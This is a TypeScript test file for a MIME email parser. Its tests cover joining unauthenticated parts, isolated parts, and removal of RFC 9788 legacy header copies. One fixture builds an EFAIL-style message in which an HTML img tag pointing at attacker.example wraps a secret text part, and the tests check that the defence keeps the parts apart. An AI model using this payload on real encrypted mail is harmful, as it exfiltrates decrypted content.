import { describe, expect, test } from 'vitest';
import { withoutLegacyHtml, withoutLegacyText } from '../../../src/mime/bodies/legacy-display.js';
import { readableContent } from '../../../src/mime/bodies/readable-content.js';
import { parseMessage } from '../../../src/mime/message.js';
import { expectLinear } from '../../support/linear-time.js';
import { crlf, leaf, multi } from '../../support/mime.js';

/** The attack of EFAIL: an address that begins before what is secret and ends after it. */
const attack = multi(
  'mixed',
  'b',
  leaf('text/html', '<img src="http://attacker.example/'),
  leaf('text/plain', 'secret'),
  leaf('text/html', '">'),
);

describe('texts that nobody vouches for are not joined', () => {
  test('without the option they are', () => {
    expect(readableContent(parseMessage(crlf(...attack))).html).toMatch(/attacker[\s\S]*secret[\s\S]*">/);
  });

  test('text and html are those of the first part, the others are files', () => {
    const content = readableContent(parseMessage(crlf(...attack)), { unauthenticated: true });
    expect([content.text, content.html]).toEqual([
      expect.not.stringContaining('secret'),
      expect.not.stringContaining('secret'),
    ]);
    expect(content.attachments.map(({ mediaType }) => mediaType)).toEqual(['text/plain', 'text/html']);
  });

  test('the two sides of an alternative are one text', () => {
    const message = parseMessage(
      crlf(...multi('alternative', 'b', leaf('text/plain', 'plain'), leaf('text/html', '<b>html</b>'))),
    );
    const { text, html, attachments } = readableContent(message, { unauthenticated: true });
    expect([text, html, attachments]).toEqual(['plain', '<b>html</b>', []]);
  });

  test('every part is in one place', () => {
    const image = leaf('image/png', 'png');
    const message = parseMessage(
      crlf(...multi('mixed', 'b', leaf('text/plain', 'one'), image, leaf('text/plain', 'two'))),
    );
    const { text, inline, attachments } = readableContent(message, { unauthenticated: true });
    expect([text, inline.length, attachments.map(({ mediaType }) => mediaType)]).toEqual([
      'one',
      0,
      ['image/png', 'text/plain'],
    ]);
  });
});

describe('parts set apart', () => {
  const message = parseMessage(
    crlf(
      ...multi(
        'mixed',
        'b',
        leaf('text/plain', 'outside'),
        multi('mixed', 'c', leaf('text/plain', 'sealed'), leaf('text/csv', '1;2')),
        leaf('text/plain', 'after'),
      ),
    ),
  );
  const apart = new Set([message.parts[1]!]);

  test('are in neither text nor attachments, with all inside them', () => {
    const { text, attachments } = readableContent(message, { apart });
    expect([text, attachments]).toEqual(['outside\nafter', []]);
  });

  test('show by themselves', () => {
    const { text, attachments } = readableContent(message.parts[1]!, { apart });
    expect([text, attachments.length]).toEqual(['sealed', 1]);
  });

  test('are not what HTML outside refers to', () => {
    const related = parseMessage(
      crlf(
        ...multi(
          'related',
          'b',
          leaf('text/html', '<img src="cid:x">'),
          leaf('image/png', 'png', 'Content-ID: <x>'),
        ),
      ),
    );
    expect(readableContent(related).resolve('cid:x')?.contentId).toBe('x');
    expect(
      readableContent(related, { apart: new Set([related.parts[1]!]) }).resolve('cid:x'),
    ).toBeUndefined();
  });
});

describe('the copy of header fields in texts (RFC 9788 §4.5.3)', () => {
  test.each([
    ['Subject: x\r\n\r\nHello\r\n', 'Hello\r\n'],
    ['Subject: x\nTo: y\n \nHello\n\nBye', 'Hello\n\nBye'],
    ['\nHello', 'Hello'],
    ['no blank line\nat all', 'no blank line\nat all'],
  ])('text %j', (text, left) => {
    expect(withoutLegacyText(text)).toBe(left);
  });

  const copy = '<div class="header-protection-legacy-display">';
  test.each([
    [`<html><body>\n${copy}<pre>Subject: x</pre></div><p>Hello`, '<html><body><p>Hello'],
    [`${copy}<div>Subject: x</div></div>Hello`, 'Hello'],
    [`<body><p>Hello</p>${copy}x</div>`, `<body><p>Hello</p>${copy}x</div>`],
    [`<body>${copy}no end`, `<body>${copy}no end`],
    [
      '<body><div class="header-protection-legacy-display-not">x</div>',
      '<body><div class="header-protection-legacy-display-not">x</div>',
    ],
  ])('html %j', (html, left) => {
    expect(withoutLegacyHtml(html)).toBe(left);
  });

  test.each([
    ['text/plain; hp-legacy-display="1"', true, 'Hello'],
    ['text/plain; hp-legacy-display="1"', false, 'Subject: x\r\n\r\nHello'],
    ['text/plain', true, 'Subject: x\r\n\r\nHello'],
    ['text/plain; hp-legacy-display=2', true, 'Subject: x\r\n\r\nHello'],
  ])('%s, left out where asked for: %s', (type, withoutLegacyDisplay, text) => {
    const message = parseMessage(crlf(...leaf(type, 'Subject: x\r\n\r\nHello')));
    expect(readableContent(message, { withoutLegacyDisplay }).text?.trimEnd()).toBe(text);
  });

  test('html is turned into text without it', () => {
    const message = parseMessage(
      crlf(...leaf('text/html; hp-legacy-display=1', `<body>${copy}Subject</div><p>Hello</p>`)),
    );
    expect(readableContent(message, { withoutLegacyDisplay: true }).text?.trim()).toBe('Hello');
  });

  test('is looked for in linear time', () => {
    expectLinear((n) => {
      const html = `<body>${copy}${'<div><body '.repeat(n)}`;
      return () => withoutLegacyHtml(html);
    }, 50_000);
  });
});
